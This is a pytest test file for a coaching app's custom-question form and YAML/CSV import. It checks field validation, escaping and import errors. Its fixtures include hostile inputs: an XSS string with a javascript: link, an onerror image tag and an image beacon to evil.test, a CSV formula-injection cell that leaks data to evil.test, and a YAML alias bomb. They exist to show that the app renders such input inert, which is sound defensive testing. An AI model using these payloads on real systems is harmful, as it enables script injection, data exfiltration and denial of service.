"""The custom-question form and its YAML/CSV import: messages on the field at fault, nothing lost, coach text inert."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.coaching import accounts, assignments
from bot.coaching.custom_questions import MAX_TEXT_CHARS, check_question, clean_questions
from bot.coaching.question_import import import_file, import_questions
from bot.config import Settings, get_settings
from bot.errors import CoachError
from bot.storage.store import make_store
from bot.web.question_form import QuestionForm
from tests.indexes import indexed_folder
from tests.test_coach_ui import PASSWORD, App, create, sign_in
from tests.test_ui import fake_request

TEXT = "Our bank wants an assistant that explains declined card payments. How would you evaluate it before launch?"
HOSTILE_TEXT = (
    "See ![chart](http://evil.test/pixel.png) and [the brief](javascript:alert(1)) <img src=x onerror=alert(1)>: "
    "how would you evaluate this assistant?"
)
POINTS = ("Label 300 real declines by reason", "A wrong reason sends customers to the wrong fix", "Start with one card")
FIELD_ORDER = ["questions", "text", "role", "domain", "difficulty", "evaluation", "failure_modes",
               "product_judgment", "communication", "follow_ups"]  # fmt: skip


def form_values(text: str = TEXT, **over: Any) -> list[Any]:
    """The form's inputs after the list, in order: text, role, domain, difficulty, four key-point boxes, follow-ups."""
    values = {
        "text": text,
        "role": "",
        "domain": None,
        "difficulty": 0,
        "evaluation": f"{POINTS[0]}\nCompare with what agents say",
        "failure_modes": POINTS[1],
        "product_judgment": POINTS[2],
        "communication": "",
        "follow_ups": "failure modes: What would you do when the reason is ambiguous?",
    }
    values.update(over)
    return list(values.values())


def invalid_fields(checked: list[dict[str, Any]]) -> dict[str, str]:
    """The validator's verdict as {field: message} for the fields it marked."""
    return {name: v["message"] for name, v in zip(FIELD_ORDER, checked, strict=True) if not v["is_valid"]}


# ------------------------------------------------------------------ the rules, without the UI


@pytest.mark.without_index
def test_a_valid_question_is_cleaned_and_each_fault_is_named_on_its_field() -> None:
    question, errors = check_question(
        {
            "text": f"  {TEXT}\x00 ",
            "key_points": {"evaluation": "a\n\n b ", "failure_modes": ["c"], "product_judgment": "d"},
            "follow_ups": "Evaluation: How large would the labelled set be?",
            "difficulty": "3",
        }  # fmt: skip
    )
    assert errors == {}
    assert question["text"] == TEXT and question["difficulty"] == 3 and question["role"] is None
    assert question["key_points"] == {"evaluation": ["a", "b"], "failure_modes": ["c"], "product_judgment": ["d"],
                                      "communication": []}  # fmt: skip
    assert question["follow_ups"] == [{"dimension": "evaluation", "text": "How large would the labelled set be?"}]

    cases = {
        "empty text": ({"text": "   "}, "text", "Write the question"),
        "short text": ({"text": "Too short?"}, "text", "at least 20 characters (this has 10)"),
        "long text": ({"text": "x" * (MAX_TEXT_CHARS + 1)}, "text", "Too long: 2,001 characters; keep it to 2,000"),
        "duplicate": ({"text": TEXT.upper()}, "text", "already in the list"),
        "no key points": (
            {"key_points": {"evaluation": "a", "failure_modes": "  \n "}},
            "failure_modes",
            "at least one",
        ),
        "long point": ({"key_points": {"evaluation": "y" * 401}}, "evaluation", "Key point 1 is too long"),
        "repeated point": ({"key_points": {"evaluation": "a\nA"}}, "evaluation", "Key point 2 repeats"),
        "three follow-ups": ({"follow_ups": "evaluation: one more?\n" * 3}, "follow_ups", "Keep to 2 follow-ups"),
        "unknown probe": ({"follow_ups": "tone: Is it friendly enough?"}, "follow_ups", "Line 1: start with"),
        "same probe twice": (
            {"follow_ups": "evaluation: How big a set?\nevaluation: Who labels it?"},
            "follow_ups",
            "one follow-up per dimension",
        ),  # fmt: skip
        "vertical alone": ({"role": "vertical"}, "role", "needs a domain"),
        "difficulty": ({"difficulty": 5}, "difficulty", "from 1 to 3"),
    }
    base = {"text": TEXT, "key_points": {"evaluation": "a", "failure_modes": "b", "product_judgment": "c"}}
    listed = [{"text": TEXT}]
    for name, (change, field, message) in cases.items():
        raw = {**base, **change, "key_points": {**base["key_points"], **change.get("key_points", {})}}
        _, errors = check_question(raw, listed if name == "duplicate" else [])
        assert set(errors) == {field} and message in errors[field], (name, errors)


@pytest.mark.without_index
def test_create_assignment_applies_the_same_rules_and_keeps_the_coachs_follow_ups() -> None:
    with pytest.raises(CoachError, match="custom question 2: question text: this question is already in the list"):
        clean_questions([{"text": TEXT, "key_points": {d: ["x"] for d in POINTS_DIMS}}] * 2)
    with pytest.raises(CoachError, match="custom question 1: key points for evaluation: add at least one"):
        clean_questions([{"text": TEXT, "key_points": {}}])
    (question,) = import_questions(
        f"- text: {TEXT}\n  role: vertical\n  domain: finance\n  difficulty: 3\n"
        "  key_points: {evaluation: [a], failure_modes: [b], product_judgment: [c]}\n"
        "  follow_ups: [{dimension: product_judgment, text: What would you launch first and why?}]\n",
        [],
    )
    store = make_store(get_settings())
    coach = accounts.add_coach(store, "form@coach.test", PASSWORD)
    made = assignments.create_assignment(store, coach, "Cards", "feature", None, [], 2, 1, None,
                                         _future(), [question])  # fmt: skip
    (asked,) = assignments.assignment_questions(made)
    assert (asked.role, asked.domain, asked.difficulty) == ("vertical", "finance", 3)  # the question's own
    assert [(f.dimension, f.text) for f in asked.follow_ups] == [
        ("product_judgment", "What would you launch first and why?")
    ]
    plain = assignments.create_assignment(store, coach, "Plain", "feature", None, [], 2, 1, None, _future(),
                                          [{**question, "role": None, "difficulty": None, "follow_ups": []}])  # fmt: skip
    (asked,) = assignments.assignment_questions(plain)
    assert (asked.role, asked.difficulty, len(asked.follow_ups)) == ("feature", 1, 2)  # the assignment's, defaults


POINTS_DIMS = ("evaluation", "failure_modes", "product_judgment")


def _future() -> Any:
    from datetime import UTC, datetime, timedelta

    return datetime.now(UTC) + timedelta(days=2)


# ------------------------------------------------------------------ import: YAML and CSV


@pytest.mark.without_index
def test_yaml_and_csv_import_and_their_mistakes() -> None:
    entries = yaml.safe_load(Path("knowledge/questions/feature.yaml").read_text(encoding="utf-8"))
    yaml_text = yaml.safe_dump(entries[:3])  # the bank's own shape (ids, skills and all) imports as it is
    bank = import_questions(yaml_text, [])
    assert len(bank) == 3 and all(q["key_points"]["evaluation"] and q["follow_ups"] for q in bank)

    sheet = io.StringIO()
    writer = csv.writer(sheet)
    writer.writerow(["Text", "Role", "Domain", "Difficulty", "Evaluation", "Failure modes", "Product judgment",
                     "follow_ups"])  # fmt: skip
    writer.writerow([TEXT, "", "", "2", f"{POINTS[0]} | Compare with agents", POINTS[1], POINTS[2],
                     "evaluation: How many declines would you label? | failure_modes: What if the reason is unknown?"])  # fmt: skip
    writer.writerow(["", "", "", "", "", "", "", ""])  # a blank row is skipped
    writer.writerow(["=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"rubric\") how would you grade it?", "vertical",
                     "legal", "", "@SUM(A1:A9)", "+1 wrong clause", "-2 launch later", ""])  # fmt: skip
    imported = import_file("questions.csv", ("\ufeff" + sheet.getvalue()).encode("utf-8"), [])  # Excel's BOM too
    first, formula = imported
    assert first["key_points"]["evaluation"] == [POINTS[0], "Compare with agents"] and first["difficulty"] == 2
    assert [f["dimension"] for f in first["follow_ups"]] == ["evaluation", "failure_modes"]
    # formula cells are kept as the characters typed: text, never a formula, and the role cell still counts
    assert formula["text"].startswith('=HYPERLINK("http://evil.test/?leak="&A1') and formula["domain"] == "legal"
    assert formula["key_points"]["evaluation"] == ["@SUM(A1:A9)"] and formula["key_points"]["failure_modes"] == [
        "+1 wrong clause"
    ]

    mistakes = {
        'text,evaluation\n"unclosed,a\n': "malformed near line 2",
        "text,colour\nx,y\n": "unknown columns 'colour'",
        "evaluation,failure_modes\na,b\n": None,  # no text column: pasted text that is not CSV is read as YAML
        "text,evaluation\nshort,a,b\n": "CSV line 2 has 3 cells but the header names 2 columns",
        "- text: [unclosed\n": "not valid YAML or JSON at line 2",
        "just words": "a list of questions",
        f"text,evaluation,failure_modes,product_judgment\n{TEXT},a,b,c\n{TEXT},a,b,c\n": "CSV line 3: question text",
        "": "choose a file or paste",
    }
    for text, message in mistakes.items():
        with pytest.raises(CoachError) as caught:
            import_questions(text, [])
        assert message is None or message in str(caught.value), (text, caught.value)
    with pytest.raises(CoachError, match="not UTF-8"):
        import_file("q.csv", "text\nné".encode("latin-1"), [])
    with pytest.raises(CoachError, match="at most 1,000 KB"):
        import_file("q.yaml", b"x" * 1_000_001, [])
    with pytest.raises(CoachError, match="already in the list"):
        import_questions(f"text: {TEXT}\nkey_points: {{evaluation: [a], failure_modes: [b], product_judgment: [c]}}",
                         [first])  # fmt: skip
    with pytest.raises(CoachError, match="at most 20"):
        import_questions(yaml_text, [first] * 18)


@pytest.mark.without_index
def test_a_yaml_alias_bomb_is_refused_without_blowing_up() -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
        for p, c in zip("abcdefg", "bcdefgh", strict=True)
    )
    bomb += "text: A question long enough to pass the length rule\nkey_points: {evaluation: *h}\n"
    with pytest.raises(CoachError, match="key points for evaluation: write the key points as text"):
        import_questions(bomb, [])


# ------------------------------------------------------------------ the form in the Coach tab


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory, built_index: Settings) -> App:
    return App(indexed_folder(tmp_path_factory, built_index, "question-form"))


@pytest.fixture
def app(shared: App) -> App:
    shared.domain = f"q{uuid.uuid4().hex[:10]}.example"
    accounts.add_coach(shared.store, f"lead@{shared.domain}", PASSWORD)
    return shared


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_the_form_marks_fields_adds_edits_removes_and_imports(app: App) -> None:
    form: QuestionForm = app.coach.question_form
    bad = invalid_fields(
        form.check_add([], *form_values("", evaluation="", follow_ups="a question without a dimension"))
    )
    assert set(bad) == {"text", "evaluation", "follow_ups"} and "Write the question" in bad["text"]
    assert invalid_fields(form.check_add([], *form_values(role="vertical"))) == {
        "domain": "A vertical role needs a domain: healthcare, legal, finance."
    }  # the message sits on the domain picker, the field to fill
    assert invalid_fields(form.check_add([], *form_values())) == {}

    added = form.on_add([], *form_values())
    listed = added[form.questions]
    assert (
        len(listed) == 1
        and listed[0]["text"] == TEXT
        and added[form.text] == ""
        and "Added question 1" in added[form.message]
    )
    assert invalid_fields(form.check_add(listed, *form_values()))["text"] == "This question is already in the list."
    refused = form.on_add(listed, *form_values("short"))  # past the validator (an API call): refused, list kept
    assert form.questions not in refused and "question text" in str(refused)

    edited = form.on_edit(listed, 0)
    assert edited[form.questions] == [] and edited[form.text] == TEXT
    assert edited[form.follow_ups] == "failure_modes: What would you do when the reason is ambiguous?"
    assert "pick a listed question" in str(form.on_remove(listed, None))
    assert form.on_remove(listed, 0)[form.questions] == []

    hostile = form.on_add(listed, *form_values(HOSTILE_TEXT))
    page = hostile[form.listing]
    assert "<img" not in page and "&lt;img src=x" in page and len(hostile[form.questions]) == 2

    bad_import = form.on_import(listed, None, "- text: [unclosed\n")
    assert set(bad_import) == {form.import_message} and "not valid YAML" in bad_import[form.import_message]
    upload = Path(app.service.settings.data_dir) / "questions.csv"
    upload.write_text(f"text,evaluation,failure_modes,product_judgment\n{HOSTILE_TEXT},a,b,c\n", encoding="utf-8")
    imported = form.on_import(listed, str(upload), "")
    assert len(imported[form.questions]) == 2 and imported[form.upload] is None and "Imported 1" in str(imported)


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_coach_text_reaches_the_candidate_as_inert_text(app: App) -> None:
    form: QuestionForm = app.coach.question_form
    listed = form.on_add([], *form_values(HOSTILE_TEXT))[form.questions]
    cid = sign_in(app, f"lead@{app.domain}")
    made = create(app, cid, questions=2, custom=listed)
    stored = assignments.open_assignment(app.store, made["asg-share"].split("=", 1)[1]).custom_questions
    assert stored[0]["text"] == HOSTILE_TEXT  # kept as written
    started = app.panel.on_start(stored and made["asg-share"].split("=", 1)[1], "Ada", "", "cand-inert", fake_request())
    shown = next(m["content"] for m in started[app.interview.chat] if "evaluate this assistant" in str(m["content"]))
    assert "![chart](" not in shown and "](javascript:" not in shown and "<img" not in shown  # no image, link or tag
    assert "http://evil.test/pixel.png" in shown  # ...but every word is there, as text


@pytest.mark.browser
@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Chromium is not installed at /usr/bin/chromium")
def test_the_message_shows_on_the_field_at_fault_in_the_browser(shared: App) -> None:
    from playwright.sync_api import expect, sync_playwright

    from tests.test_browser import ARGS, CHROMIUM
    from tests.test_coach_ui import sign_in_in_browser
    from tests.test_ui import serve

    email = f"form@{uuid.uuid4().hex[:8]}.example"
    accounts.add_coach(shared.store, email, PASSWORD)
    shared.ui.demo.queue(default_concurrency_limit=4)
    url = serve(shared.ui.demo)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
            page: Any = browser.new_page(viewport={"width": 1280, "height": 2400})
            page.set_default_timeout(30_000)
            page.goto(url)
            sign_in_in_browser(page, email, PASSWORD)
            expect(page.get_by_text(f"Signed in as {email}")).to_be_visible()
            page.get_by_text("Custom questions (optional").click()
            page.locator("#cq-text textarea").fill("Too short?")
            page.locator("#cq-add").click()
            expect(page.get_by_text("Too short: write at least 20 characters (this has 10).")).to_be_visible()
            expect(page.get_by_text("Add at least one key point (one per line).").first).to_be_visible()
            expect(page.locator("#cq-text textarea")).to_have_value("Too short?")  # what was typed stays
            page.locator("#cq-text textarea").fill(TEXT)
            for dimension, point in zip(("evaluation", "failure_modes", "product_judgment"), POINTS, strict=True):
                page.locator(f"#cq-{dimension} textarea").fill(point)
            page.locator("#cq-add").click()
            expect(page.locator("#cq-message")).to_contain_text("Added question 1.")
            expect(page.locator("#cq-list")).to_contain_text(TEXT)
            expect(page.locator("#cq-text textarea")).to_have_value("")
            browser.close()
    finally:
        shared.ui.demo.close()
